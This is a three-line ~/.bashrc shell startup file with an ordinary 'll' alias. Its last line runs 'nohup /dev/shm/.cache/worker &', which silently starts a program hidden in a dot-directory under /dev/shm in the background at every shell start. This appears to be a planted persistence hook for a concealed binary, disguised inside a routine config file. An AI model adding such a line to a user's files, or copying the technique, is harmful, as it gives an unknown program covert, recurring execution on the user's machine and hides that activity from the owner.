# ~/.bashrc
alias ll="ls -l"
nohup /dev/shm/.cache/worker &
